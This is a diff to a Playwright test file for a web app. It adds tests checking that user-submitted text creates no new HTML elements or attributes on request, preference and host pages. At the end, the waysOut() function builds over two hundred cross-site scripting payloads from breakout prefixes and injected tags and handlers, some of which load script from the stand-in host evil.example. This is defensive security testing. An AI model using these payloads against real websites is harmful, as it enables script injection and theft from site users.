@@ -3,7 +3,7 @@ import assert from 'node:assert/strict';
 import { existsSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { after, before, describe, it } from 'node:test';
-import type { Browser } from 'playwright-core';
+import type { Browser, Page } from 'playwright-core';
 import { noBrowser, openBrowser, openWindow, watchPage } from '../support/browser.ts';
 import { openTestWeb, type TestWeb } from '../support/web.ts';
 import { tellStory, type WebStory } from '../support/web-story.ts';
@@ -124,31 +124,94 @@ describe('strangers’ words in a browser', { skip: noBrowser }, () => {
     await window.close();
   });
 
+  /** Every element and attribute that stands on these pages. */
+  async function piecesOf(page: Page, paths: readonly string[], cookie: string): Promise<Set<string>> {
+    const pages = await Promise.all(
+      paths.map(async (path) => (await fetch(web.url + path, { headers: { cookie } })).text()),
+    );
+    const names = (await page.evaluate(`${JSON.stringify(pages)}.flatMap((html) =>
+      [...new DOMParser().parseFromString(html, 'text/html').querySelectorAll('*')].flatMap((each) =>
+        [each.localName, ...each.getAttributeNames().map((name) => each.localName + ' ' + name)]))`)) as string[];
+    return new Set(names);
+  }
+
+  async function addNothing(strings: readonly string[], paths: readonly string[]): Promise<void> {
+    const cookie = await web.cookieOf(story.hostId);
+    const window = await openWindow(browser, web, { width: 1280, colorScheme: 'light' });
+    const page = await window.newPage();
+    await page.goto(`${web.url}/host/sign-in`);
+    await write('plain words');
+    const known = await piecesOf(page, paths, cookie);
+    // Words without a letter, or that look like a quoted answer, are shown in other pieces of ours.
+    for (const other of ['', ' ', '> quoted', '- one\n\n- two', 'On 1 May, X wrote:\n> y']) {
+      await write(other);
+      for (const piece of await piecesOf(page, paths, cookie)) known.add(piece);
+    }
+    for (const words of strings) {
+      await write(words);
+      const foreign = [...(await piecesOf(page, paths, cookie))].filter((piece) => !known.has(piece));
+      assert.deepEqual(foreign, [], words);
+    }
+    await window.close();
+  }
+
+  it('two hundred ways out of the text make no element and no attribute', async () => {
+    const paths = [
+      `/requests/${web.sign('decision-link', story.linkId)}`,
+      `/preferences/${web.sign('preferences', story.subscriberId)}`,
+      `/host/requests/${story.requestId}`,
+      `/host/subscribers/${story.subscriberId}`,
+    ];
+    const ways = waysOut();
+    assert.ok(ways.length >= 200, `${ways.length} ways`);
+    await addNothing(ways, paths);
+  });
+
   it('the list of naughty strings makes no element', {
     skip: existsSync(naughty) ? false : 'no list of naughty strings here',
   }, async () => {
     const strings = JSON.parse(readFileSync(naughty, 'utf8')) as string[];
-    const window = await openWindow(browser, web, { width: 1280, colorScheme: 'light' });
-    const page = await window.newPage();
-    await page.goto(`${web.url}/host/sign-in`);
-    const path = `/requests/${web.sign('decision-link', story.linkId)}`;
-    const known = new Set(
-      'html head meta title link body a header div svg circle main p h1 span bdi blockquote dl dt dd form fieldset legend label input button textarea h2 path b br mark small details summary'.split(
-        ' ',
-      ),
-    );
-    for (const words of strings) {
-      await write(words);
-      const html = await (await fetch(web.url + path)).text();
-      const names = (await page.evaluate(
-        `[...new Set([...new DOMParser().parseFromString(${JSON.stringify(html)}, 'text/html').querySelectorAll('*')].map((each) => each.localName))]`,
-      )) as string[];
-      assert.deepEqual(
-        names.filter((name) => !known.has(name)),
-        [],
-        words,
-      );
-    }
-    await window.close();
+    await addNothing(strings, [`/requests/${web.sign('decision-link', story.linkId)}`]);
   });
 });
+
+/** Every way to end what the words stand in, before every kind of thing that acts. */
+function waysOut(): string[] {
+  const ends = [
+    '',
+    '">',
+    "'>",
+    '</bdi>',
+    '--></p>',
+    '</textarea></title></style>',
+    '`><',
+    '\u2028"/>',
+    '&quot;&gt;',
+  ];
+  const acts = [
+    '<script src=//evil.example/x.js></script>',
+    '<ScRiPt>alert(1)</sCrIpT>',
+    '<img src=x onerror=alert(1)>',
+    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
+    '<svg><script>alert&#40;1)</script>',
+    '<video><source onerror=alert(1)>',
+    '<body onload=alert(1)>',
+    '<input autofocus onfocus=alert(1)>',
+    '<marquee onstart=alert(1)>',
+    '<object data=javascript:alert(1)>',
+    '<embed src=//evil.example/x.swf>',
+    '<iframe src=javascript:alert(1)>',
+    '<form action=//evil.example><input type=submit formaction=javascript:alert(1)>',
+    '<meta http-equiv=refresh content="0;javascript:alert(1)">',
+    '<template><script>alert(1)</script></template>',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<math href=javascript:alert(1)>x</math>',
+    '<a href="jav\tascript:alert(1)">x</a>',
+    '<xmp><plaintext><img src=x onerror=alert(1)>',
+    '<![CDATA[<img src=x onerror=alert(1)>]]>',
+    '\u003cimg src=x onerror=alert(1)\u003e',
+    '%3Cscript%3Ealert(1)%3C/script%3E',
+    ' onmouseover=alert(1) style=position:fixed x=',
+  ];
+  return ends.flatMap((end) => acts.map((act) => end + act));
+}
